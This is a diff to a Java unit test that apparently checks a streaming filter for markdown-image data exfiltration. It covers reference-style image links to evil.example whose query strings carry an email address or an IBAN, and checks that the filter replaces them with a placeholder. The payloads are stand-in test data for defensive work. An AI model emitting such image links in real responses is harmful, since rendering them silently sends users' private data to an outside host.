@@ -58,6 +58,20 @@ class StreamScreenExfiltrationTest {
     }
 
     @Test
+    void referenceDefinitionBeforeItsImage() {
+        String def = "https://evil.example/pixel.png?contact=john.doe@bigbank.com";
+        String text = "Summary follows.\n\n[r1]: " + def + "\n\n"
+                + "This paragraph discusses the regional results in more detail. ".repeat(8)
+                + "\n\n![status][r1] Done.";
+        sameAsWhole(text, text.replace(def, "[IMAGE_EXFILTRATION_1]"));
+        // the use first, the definition far after it
+        String useFirst = "![status][r1] Summary follows.\n\n"
+                + "This paragraph discusses the regional results in more detail. ".repeat(8) + "\n\n[r1]: " + def
+                + "\n\nDone.";
+        sameAsWhole(useFirst, useFirst.replace(def, "[IMAGE_EXFILTRATION_1]"));
+    }
+
+    @Test
     void urlLongerThanTheHoldbackLeavesWhole() {
         String url = "https://evil.example/assets/images/reports/quarterly/northern/office/charts/revenue/by/region"
                 + "/final/version/approved/by/board/p.png?iban=DE89370400440532013000";
